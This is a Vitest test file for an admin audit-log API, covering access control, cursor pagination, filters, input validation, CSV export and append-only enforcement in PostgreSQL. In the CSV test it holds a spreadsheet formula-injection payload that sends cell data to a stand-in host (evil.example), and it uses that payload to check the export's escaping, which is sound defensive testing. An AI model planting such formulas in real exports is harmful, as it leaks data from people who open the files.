import { randomBytes } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { roomyRateLimits } from '../../test/config';
import { buildUser, logIn, uniqueName } from '../../test/factories';
import { callerOf, type Caller } from '../../test/ticket-factories';
import { setupTestApp } from '../../test/test-app';
import { createUser } from '../users/users.service';
import { recordAudit, systemActor } from './audit-log';

/*
 * GET /api/admin/audit-log: who may read it, its filters and keyset pages, the CSV export (every page, safe in a
 * spreadsheet), and the table itself refusing any change from the app's own connection (decision 168).
 */

const t = setupTestApp({ rateLimits: roomyRateLimits });

let admin: Caller;

beforeAll(async () => {
  admin = await callerOf(t, 'staff');
});

/** A unique action family for one test, so rows other tests write never match its filters. */
const family = () => `probe_${randomBytes(4).toString('hex')}`;

/** Rows written straight into the table (inserts are allowed), at the given instants. */
async function insertRows(rows: { action: string; at: string; actor?: string; after?: unknown }[]): Promise<string[]> {
  const inserted = await t
    .db('audit_log')
    .insert(
      rows.map((row) => ({
        at: row.at,
        actorName: row.actor ?? 'cli',
        actorRole: 'system',
        action: row.action,
        recordType: 'probe',
        recordId: 'r1',
        after: row.after === undefined ? null : JSON.stringify(row.after),
      })),
    )
    .returning('id');
  return inserted.map((row: { id: string | number }) => String(row.id));
}

/** An RFC 4180 reader: records of fields, quotes undone. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += char;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('who may read it', () => {
  it('is 401 without a session, 403 for clients and for staff roles without audit_log.read, 200 for admins', async () => {
    expect((await t.request().get('/api/admin/audit-log')).status).toBe(401);
    const client = await callerOf(t, 'client');
    expect((await client.agent.get('/api/admin/audit-log')).status).toBe(403);
    for (const staffRole of ['support', 'sales', 'fulfilment'] as const) {
      const username = uniqueName(staffRole);
      const password = `pw-${randomBytes(6).toString('hex')}`;
      await createUser(t.db, { username, password, accountType: 'staff', staffRole });
      const agent = t.agent();
      await logIn(agent, { username, password });
      for (const path of ['/api/admin/audit-log', '/api/admin/audit-log?format=csv']) {
        const res = await agent.get(path);
        expect(res.status).toBe(403);
        expect(res.body.message).toMatch(/audit_log\.read/);
      }
    }
    const res = await admin.agent.get('/api/admin/audit-log');
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
  });
});

describe('filters and pages', () => {
  it('pages newest first by cursor, to the last page, with every row once', async () => {
    const action = `${family()}.made`;
    const ids = await insertRows(
      [0, 1, 2, 3, 4].map((minute) => ({ action, at: `2026-03-01T10:0${minute}:00.123456Z` })),
    );
    // Two rows at the same instant: the id decides their order.
    ids.push(...(await insertRows([{ action, at: '2026-03-01T10:02:00.123456Z' }])));
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res = await admin.agent
        .get('/api/admin/audit-log')
        .query({ action, limit: 2, ...(cursor ? { cursor } : {}) });
      expect(res.status).toBe(200);
      seen.push(...res.body.entries.map((entry: { id: string }) => entry.id));
      cursor = res.body.nextCursor;
      pages += 1;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toEqual([ids[4], ids[3], ids[5], ids[2], ids[1], ids[0]]);
  });

  it('answers the contract: actor, ip, record, before and after', async () => {
    const action = `${family()}.changed`;
    await recordAudit(
      t.db,
      { id: admin.built.user.id, name: admin.built.username, role: 'admin', ip: '203.0.113.9' },
      {
        action,
        recordType: 'product',
        recordId: 'p-1',
        before: { price: '10.00' },
        after: { price: '12.50' },
      },
    );
    const res = await admin.agent.get('/api/admin/audit-log').query({ action });
    expect(res.body).toEqual({
      entries: [
        {
          id: expect.stringMatching(/^\d+$/),
          at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
          actor: { id: admin.built.user.id, name: admin.built.username, role: 'admin' },
          ip: '203.0.113.9',
          action,
          record: { type: 'product', id: 'p-1' },
          before: { price: '10.00' },
          after: { price: '12.50' },
        },
      ],
      nextCursor: null,
    });
  });

  it('filters by actor (name in any case, or id), action (exact or prefix) and time (days or date-times)', async () => {
    const prefix = family();
    const someone = await buildUser(t.db, { accountType: 'staff' });
    await recordAudit(
      t.db,
      { id: someone.user.id, name: someone.username, role: 'admin', ip: null },
      {
        action: `${prefix}.by_someone`,
      },
    );
    await insertRows([
      { action: `${prefix}.early`, at: '2026-04-01T23:59:59.999Z', actor: 'robot' },
      { action: `${prefix}.middle`, at: '2026-04-02T12:00:00Z', actor: 'robot' },
      { action: `${prefix}.late`, at: '2026-04-03T00:00:00Z', actor: 'robot' },
    ]);
    const actions = async (query: Record<string, string>) => {
      const res = await admin.agent.get('/api/admin/audit-log').query(query);
      expect(res.status).toBe(200);
      return res.body.entries.map((entry: { action: string }) => entry.action.slice(prefix.length + 1)).sort();
    };
    expect(await actions({ action: `${prefix}.` })).toEqual(['by_someone', 'early', 'late', 'middle']);
    expect(await actions({ action: `${prefix}.middle` })).toEqual(['middle']);
    expect(await actions({ action: `${prefix}.mid` })).toEqual([]);
    expect(await actions({ action: `${prefix}.`, actor: someone.username.toUpperCase() })).toEqual(['by_someone']);
    expect(await actions({ action: `${prefix}.`, actor: someone.user.id })).toEqual(['by_someone']);
    expect(await actions({ action: `${prefix}.`, actor: 'robot' })).toEqual(['early', 'late', 'middle']);
    expect(await actions({ action: `${prefix}.`, actor: 'rob' })).toEqual([]);
    // Days are whole UTC days, both ends included.
    expect(await actions({ action: `${prefix}.`, from: '2026-04-02', to: '2026-04-02' })).toEqual(['middle']);
    expect(await actions({ action: `${prefix}.`, from: '2026-04-01', to: '2026-04-02' })).toEqual(['early', 'middle']);
    // Date-times are instants, `to` included.
    expect(await actions({ action: `${prefix}.`, from: '2026-04-02T12:00:00Z', to: '2026-04-03T00:00:00Z' })).toEqual([
      'late',
      'middle',
    ]);
    expect(await actions({ action: `${prefix}.`, to: '2026-04-02T01:59:59.999+02:00' })).toEqual(['early']);
  });

  it.each([
    ['from=2026-02-30', /from/],
    ['to=yesterday', /to/],
    ['from=2026-04-03&to=2026-04-02', /from must not be after to/],
    ['action=Refund!', /action/],
    ['action=refund..created', /action/],
    ['cursor=%40%40', /cursor/],
    ['cursor=bm90LWEtY3Vyc29y', /cursor/],
    [`cursor=${Buffer.from('1.9999999999999999999').toString('base64url')}`, /cursor/],
    ['limit=0', /limit/],
    ['limit=101', /limit/],
    ['format=xml', /format/],
    ['actor=a&actor=b', /actor/],
    ['colour=red', /colour|Unrecognized/i],
  ])('?%s is a 400 naming the problem', async (query, message) => {
    const res = await admin.agent.get(`/api/admin/audit-log?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.message).toMatch(message);
    const csv = await admin.agent.get(`/api/admin/audit-log?${query}&format=csv`);
    expect(csv.status).toBe(400);
  });
});

describe('the CSV export', () => {
  it('is every matching row (past one page), newest first, as an attachment', async () => {
    const action = `${family()}.bulk`;
    const rows = Array.from({ length: 1203 }, (_, i) => ({
      action,
      at: new Date(Date.UTC(2026, 4, 1) + i * 1000).toISOString(),
    }));
    const ids = await insertRows(rows);
    const res = await admin.agent.get('/api/admin/audit-log').query({ action, format: 'csv' }).buffer(true);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-[\d-T]+\.csv"$/);
    const [header, ...records] = parseCsv(res.text);
    expect(header).toEqual([
      'id',
      'at',
      'actor_id',
      'actor_name',
      'actor_role',
      'ip',
      'action',
      'record_type',
      'record_id',
      'before',
      'after',
    ]);
    expect(records.map((record) => record[0])).toEqual([...ids].reverse());
  });

  it('quotes commas, quotes and line breaks, and neutralises cells a spreadsheet would run as formulas', async () => {
    const action = `${family()}.csv`;
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const names = [evil, '+1+1', '-1+1', '@SUM(A1:A9)', '\tTAB', 'Smith, "Jr."\nline two'];
    for (const name of names) await recordAudit(t.db, systemActor(name), { action, after: { name } });
    // A product named like a formula, through the console's own endpoint.
    const product = await admin.agent.post('/api/admin/products').send({
      name: evil,
      category: 'Networking',
      description: 'Formula, "quoted"\nand two lines.',
      price: '10.00',
      inStock: true,
    });
    expect(product.status).toBe(201);

    const res = await admin.agent.get('/api/admin/audit-log').query({ action, format: 'csv' }).buffer(true);
    const records = parseCsv(res.text).slice(1);
    expect(records.map((record) => record[3])).toEqual(
      [...names].reverse().map((name) => (name === names[5] ? name : `'${name}`)),
    );
    for (const record of records) {
      expect(record).toHaveLength(11);
      expect(JSON.parse(record[10]!)).toEqual({ name: expect.any(String) });
    }

    const created = await admin.agent
      .get('/api/admin/audit-log')
      .query({ action: 'product.created', actor: admin.built.username, format: 'csv' })
      .buffer(true);
    const cells = parseCsv(created.text).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const after = parseCsv(created.text).find((record) => record[8] === product.body.id)![10]!;
    expect(JSON.parse(after)).toMatchObject({ name: evil, description: 'Formula, "quoted"\nand two lines.' });
  });
});

describe('append-only, in PostgreSQL itself', () => {
  it('UPDATE, DELETE and TRUNCATE from the app’s own connection all fail, and the row is unchanged', async () => {
    const action = `${family()}.kept`;
    await recordAudit(t.db, systemActor('cli'), { action, recordType: 'probe', after: { value: 1 } });
    const original = await t.db('audit_log').where({ action }).first();
    await expect(
      t.db.raw('update audit_log set after = ?::jsonb where action = ?', ['{"value":2}', action]),
    ).rejects.toThrow(/append-only: UPDATE is not allowed/);
    await expect(t.db.raw('delete from audit_log where action = ?', [action])).rejects.toThrow(
      /append-only: DELETE is not allowed/,
    );
    await expect(t.db.raw('truncate audit_log')).rejects.toThrow(/append-only: TRUNCATE is not allowed/);
    await expect(t.db.raw('truncate audit_log cascade')).rejects.toThrow(/append-only/);
    // Inside a transaction too: the statement fails and the transaction with it.
    await expect(
      t.db.transaction(async (trx) => {
        await trx('audit_log').where({ action }).update({ actorName: 'someone else' });
      }),
    ).rejects.toThrow(/append-only/);
    expect(await t.db('audit_log').where({ action }).first()).toEqual(original);
  });
});
